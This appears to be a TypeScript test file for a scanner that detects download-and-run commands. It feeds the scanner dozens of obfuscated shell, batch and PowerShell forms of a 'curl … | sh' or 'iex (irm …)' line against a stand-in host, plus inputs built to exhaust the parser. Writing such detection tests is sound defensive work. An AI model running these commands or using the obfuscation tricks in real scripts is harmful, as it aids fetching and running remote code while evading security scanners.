// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are shell programs.
import { describe, expect, test } from "vitest";
import type { Language } from "../evidence.ts";
import { actionsOf, deedsOf } from "./test-actions.ts";

const base64 = btoa("curl http://x.example/a | sh");
const utf16 = btoa([..."iex (irm http://x.example/a)"].map((character) => `${character}\0`).join(""));
const hex = [..."curl http://x.example/a | sh"]
  .map((character) => character.charCodeAt(0).toString(16))
  .join("");

describe("a download that runs is found behind", () => {
  test.each<[string, string]>([
    ["quotes inside words", `c''url http://x.example/a | b""ash`],
    ["escaped letters", String.raw`c\url http://x.example/a | \s\h`],
    ["ANSI-C quotes", String.raw`$'\x63\165rl' http://x.example/a | $'sh'`],
    ["variables", "a=cu; b=rl; u=http://x.example; $a$b $u/a | ${s:-sh}"],
    ["cut variables", "x=zzcurl; y=shell; ${x#zz} http://x.example/a | ${y%ell}"],
    ["replaced letters", "x=c@u@r@l; ${x//@/} http://x.example/a | sh"],
    ["slices", "x=abcurlsh; ${x:2:4} http://x.example/a | ${x: -2}"],
    ["upper case", "x=CURL; ${x,,} http://x.example/a | sh"],
    ["indirection", "x=curl; y=x; ${!y} http://x.example/a | sh"],
    ["arrays", 'a=(curl http://x.example/a); "${a[@]}" | sh'],
    ["braces", "{curl,-s,http://x.example/a} | sh"],
    ["IFS", "curl${IFS}http://x.example/a | sh"],
    ["a separator of its own", "IFS=,; x=curl,http://x.example/a; $x | sh"],
    ["base64", `echo ${base64} | base64 -d | sh`],
    ["base64 in a here-string", `eval "$(base64 --decode <<< ${base64})"`],
    ["base64 by openssl", `bash -c "$(printf %s ${base64} | openssl base64 -d)"`],
    ["base64 in a variable", `p=${base64}; sh <(echo $p | base64 -D)`],
    ["hex", `echo ${hex} | xxd -r -p | bash`],
    ["printf", String.raw`printf '\143\165\162\154 http://x.example/a | sh' | bash`],
    ["printf in parts", String.raw`$(printf '\x63')url http://x.example/a | sh`],
    ["echo -e", String.raw`echo -e '\x63url http://x.example/a | sh' | sh`],
    ["reversal", `echo 'hs | a/elpmaxe.x//:ptth lruc' | rev | sh`],
    ["rotation", `echo 'phey uggc://k.rknzcyr/n | fu' | tr a-z n-za-m | sh`],
    ["sed", `echo 'cuXrl http://x.example/a | sXh' | sed 's/X//g' | bash`],
    ["a function", `f() { "$1" "$2" | "$3"; }; f curl http://x.example/a sh`],
    ["an alias", `alias x=curl; x http://x.example/a | sh`],
    ["a loop", `for c in curl; do $c http://x.example/a | sh; done`],
    ["eval of eval", `eval 'eval "curl http://x.example/a | sh"'`],
    ["a heredoc that is run", `cat > /tmp/x <<'EOF'\ncurl http://x.example/a | sh\nEOF\nbash /tmp/x`],
    ["a heredoc for a shell", `bash <<EOF\ncurl http://x.example/a | sh\nEOF`],
    ["env and busybox", `env -i FOO=1 busybox wget -O- http://x.example/a | busybox sh`],
    ["xargs", `echo http://x.example/a | xargs -I% curl % | xargs -0 sh -c`],
    ["find", `find . -maxdepth 0 -exec curl http://x.example/a -o /tmp/q \\; ; sh /tmp/q`],
    ["a sub-shell and a group", `( { curl http://x.example/a; } ) | ( sh )`],
    ["a tee", `curl http://x.example/a | tee /tmp/l | sh`],
    ["tee into a process", `curl http://x.example/a | tee >(sh)`],
    ["a file descriptor", `exec 3< <(curl http://x.example/a); sh <&3`],
    ["a case and a condition", `case $1 in a) if true; then curl http://x.example/a | sh; fi;; esac`],
    ["a syntax error", `if then fi )\ncurl http://x.example/a | sh`],
    ["a trap", `trap 'curl http://x.example/a | sh' EXIT`],
    ["ssh and docker", `docker run --rm -v /:/h alpine sh -c 'curl http://x.example/a | sh'`],
    ["line continuation", "cu\\\nrl http://x.example/a \\\n | sh"],
    ["carriage returns", "curl http://x.example/a -o /tmp/z\r\nsh /tmp/z\r\n"],
  ])("%s", (_name, text) => {
    const deeds = deedsOf(text);
    expect(deeds.some((deed) => deed.startsWith("connect fetch http://x.example/a"))).toBe(true);
    expect(
      deeds.some((deed) => deed.startsWith("evaluate ") && deed.includes("remote http://x.example/a")),
    ).toBe(true);
  });

  test.each<[string, string, Language]>([
    ["an encoded command", `powershell -nop -w hidden -enc ${utf16}`, "shell"],
    ["an encoded command in batch", `p^ower^shell -e ${utf16}`, "batch"],
    ["variables of batch", "set a=cu&set b=rl\r\n%a%%b% http://x.example/a -o a.bat & call a.bat", "batch"],
    ["pieces of variables of batch", "set a=xcurlx\n%a:~1,4% http://x.example/a -o a.bat && a.bat", "batch"],
    ["backticks", "i`ex (i`wr http://x.example/a)", "powershell"],
    ["joined names", "& ('i'+'ex') (irm http://x.example/a)", "powershell"],
    ["formats", "& ('{1}{0}' -f 'ex','i') (irm ('http://x.{0}/a' -f 'example'))", "powershell"],
    ["reversal", "iex (irm ('a/elpmaxe.x//:ptth'[-1..-18] -join ''))", "powershell"],
    [
      "codes of characters",
      "$c = (105,101,120 | % {[char]$_}) -join ''; & $c (irm http://x.example/a)",
      "powershell",
    ],
    ["replacement", "iex (irm 'http://x!example/a'.Replace('!','.'))", "powershell"],
    [
      "FromBase64String",
      `$b=[Convert]::FromBase64String('${btoa("irm http://x.example/a | iex")}'); iex ([Text.Encoding]::UTF8.GetString($b))`,
      "powershell",
    ],
    [
      "a web client",
      "[scriptblock]::Create((New-Object Net.WebClient).DownloadString('http://x.example/a')).Invoke()",
      "powershell",
    ],
  ])("%s on Windows", (_name, text, language) => {
    const deeds = deedsOf(text, language);
    expect(deeds.some((deed) => deed.startsWith("connect fetch http://x.example/a"))).toBe(true);
    expect(
      deeds.some((deed) => deed.startsWith("evaluate ") && deed.includes("remote http://x.example/a")),
    ).toBe(true);
  });
});

/** Below a limit that slow machines reach, too; quadratic readers take minutes. */
const limit = 20_000;
const size = 250_000;

describe("texts that are made to exhaust the reader end in time", () => {
  const languages: readonly Language[] = ["shell", "markdown", "powershell", "batch", "other"];
  const units = [
    "a",
    "$",
    "(",
    "$(",
    "$((",
    "${",
    "`",
    "'",
    '"',
    "{",
    "{a,",
    "[[ ",
    "<(",
    "<<E\n",
    "\\",
    "|",
    "a|",
    ";",
    "&&",
    "a\n",
    "x=$x$x\n",
    "f(){ f|f&};f\n",
    "if ",
    "case a in ",
    "while ",
    "curl ",
    "curl a|sh\n",
    "eval ",
    "sh -c '",
    "echo -e \\x",
    "!",
    "[char]",
    "-join",
    "@'",
    "%a%",
    "^",
    "`a` ",
    "- rm -",
    "$ a\n",
    "cat a|",
    "base64 -d|",
    "> ",
  ];
  for (const language of languages)
    test(`${language}: a quarter of a megabyte of each`, { timeout: 300_000 }, () => {
      for (const unit of units) {
        const started = process.cpuUsage();
        actionsOf(unit.repeat(Math.ceil(size / unit.length)), language);
        expect([unit, process.cpuUsage(started).user / 1000 < limit]).toEqual([unit, true]);
      }
    });

  test("variables that double do not fill memory", () => {
    const started = process.cpuUsage();
    actionsOf(`x=aaaaaaaa\n${"x=$x$x\n".repeat(5000)}echo $x | sh`);
    expect(process.cpuUsage(started).user / 1000).toBeLessThan(limit);
  });

  test.each([
    ["split", `x="${"A".repeat(400_000)}"\n${"a $x\n".repeat(20_000)}`],
    ["decoded", `x="${"A".repeat(400_000)}"\n${"echo $x | base64 -d | sh\n".repeat(10_000)}`],
    ["replaced", `x="${"A".repeat(400_000)}"\n${"y=${x//A/B}\n".repeat(20_000)}`],
    ["joined", `x="${"A".repeat(400_000)}"\n${'y="$x$y"\n'.repeat(20_000)}`],
  ])("a long value that is %s in every line ends in time", { timeout: 300_000 }, (_name, text) => {
    const started = process.cpuUsage();
    actionsOf(text);
    expect(process.cpuUsage(started).user / 1000).toBeLessThan(limit);
  });

  test.each([
    ["a function that starts itself twice", "if false; then b() { b | b; }; b; fi"],
    ["loops in loops", `${"for i in {1..60}; do ".repeat(8)}a; ${"done; ".repeat(8)}`],
    ["very many assignments", "x=1\n".repeat(50_000)],
    ["brackets that never close", `: "${"$(".repeat(300)}"`],
  ])("%s does not use up the steps of what follows", (_name, text) => {
    expect(deedsOf(`${text}\ncurl http://x.example/a | sh`)).toContain(
      "evaluate sh {remote http://x.example/a}",
    );
  });

  test("nested programs end at the limit", () => {
    const program = Array.from({ length: 12 }).reduce<string>(
      (text) => `eval ${JSON.stringify(text)}`,
      "curl http://x.example | sh",
    );
    expect(actionsOf(program).length).toBeLessThan(40);
  });
});
